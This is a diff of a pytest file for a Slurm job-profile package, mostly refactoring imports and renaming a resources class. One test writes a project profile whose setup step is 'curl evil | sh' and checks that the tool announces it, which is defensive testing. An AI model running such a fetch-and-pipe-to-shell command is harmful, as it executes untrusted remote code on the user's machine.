@@ -14,11 +14,12 @@ from typing import Any
 import pytest
 from submitit.slurm.slurm import _make_sbatch_string
 
-from slurm import profiles
+from slurm import profile_files, profile_keys
 from slurm.errors import ClusterUsageError
-from slurm.profiles import DriverNeeds, Profile, available, folders, load
+from slurm.profile_files import available, folders, load
+from slurm.profiles import DriverResources, Profile
 
-SHIPPED = Path(profiles.__file__).parent / "profiles"
+SHIPPED = Path(profile_files.__file__).parent / "profiles"
 
 
 @pytest.fixture(autouse=True)
@@ -76,7 +77,7 @@ def test_three_profiles_are_shipped_and_load() -> None:
 def test_the_default_profile_shows_every_key() -> None:
     text = (SHIPPED / "default.toml").read_text(encoding="utf-8")
     workers, driver = text.split("\n[driver]\n")
-    for table, keys in ((workers, profiles._KEYS), (driver, profiles._DRIVER_KEYS)):
+    for table, keys in ((workers, profile_keys.WORKER_KEYS), (driver, profile_keys.DRIVER_KEYS)):
         shown = set(re.findall(r"^(?:# )?([a-z_]+) = ", table, re.MULTILINE)) | set(
             re.findall(r"^\[(\w+)\]", table, re.M)
         )
@@ -89,15 +90,17 @@ def test_each_key_shown_behind_a_hash_can_be_used(write: Write) -> None:
     write("example", example)
     profile = load("example")
     unsaid = [field.name for field in dataclasses.fields(Profile) if getattr(profile, field.name) is None]
-    unsaid += [field.name for field in dataclasses.fields(DriverNeeds) if getattr(profile.driver, field.name) is None]
+    unsaid += [
+        field.name for field in dataclasses.fields(DriverResources) if getattr(profile.driver, field.name) is None
+    ]
     assert unsaid == []
     assert profile.extra == {"nice": 100, "exclusive": True, "mail_type": "FAIL"}
 
 
 def test_every_field_of_a_profile_has_a_key() -> None:
     for keys, holder, more in (
-        (profiles._KEYS, Profile, {"name", "source", "driver"}),
-        (profiles._DRIVER_KEYS, DriverNeeds, set()),
+        (profile_keys.WORKER_KEYS, Profile, {"name", "source", "driver"}),
+        (profile_keys.DRIVER_KEYS, DriverResources, set()),
     ):
         assert {key.field for key in keys.values()} | more == {field.name for field in dataclasses.fields(holder)}
 
@@ -469,13 +472,13 @@ def test_a_kept_profile_that_was_tampered_with_is_refused(change: dict[str, Any]
 def test_a_profile_of_the_working_folder_is_announced_with_what_it_replaces_and_runs(
     write: Write, nasty_path: Path
 ) -> None:
-    assert profiles.of_project("gpu") == ""
+    assert profile_files.of_project("gpu") == ""
     mine = write("gpu", 'extends = "gpu"\nsetup = ["curl evil | sh"]')
-    said = profiles.of_project("gpu")
+    said = profile_files.of_project("gpu")
     assert str(mine) in said and str(SHIPPED / "gpu.toml") in said and "curl evil | sh" in said
-    assert profiles.of_project("cpu") == ""
+    assert profile_files.of_project("cpu") == ""
     other = write("own", "cpus = 2")
-    assert str(other) in profiles.of_project("own") and "in place of" not in profiles.of_project("own")
+    assert str(other) in profile_files.of_project("own") and "in place of" not in profile_files.of_project("own")
 
 
 def test_a_profile_of_a_folder_that_somebody_named_is_not_announced(
@@ -483,4 +486,4 @@ def test_a_profile_of_a_folder_that_somebody_named_is_not_announced(
 ) -> None:
     mine = write("gpu", "cpus = 2")
     monkeypatch.setenv("SWEEPS_PROFILES", str(mine.parent))
-    assert profiles.of_project("gpu") == ""
+    assert profile_files.of_project("gpu") == ""
